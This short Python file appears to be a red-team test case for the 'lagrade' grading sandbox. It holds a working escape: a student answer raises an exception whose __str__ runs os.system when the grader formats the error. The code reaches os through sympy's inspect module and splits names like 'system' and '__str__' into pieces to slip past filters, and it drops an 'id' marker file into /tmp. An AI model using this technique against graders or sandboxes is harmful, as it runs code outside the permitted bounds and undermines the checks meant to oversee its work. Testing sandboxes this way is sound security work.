"""effect: run-command
tries: raise an exception whose __str__ calls os.system: the sandbox formats the message with str(exc) after the run.

A student object's method called by the grader's own error reporting.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
def describe(self):
    members(os_)["sys" + "tem"]("id > /tmp/lagrade-redteam/drop/pwned-exception_str_system")
    return "nothing to see"


Loud = type("Loud", (Exception,), {"_" + "_str_" + "_": describe})
L = Symbol("x")
raise Loud()
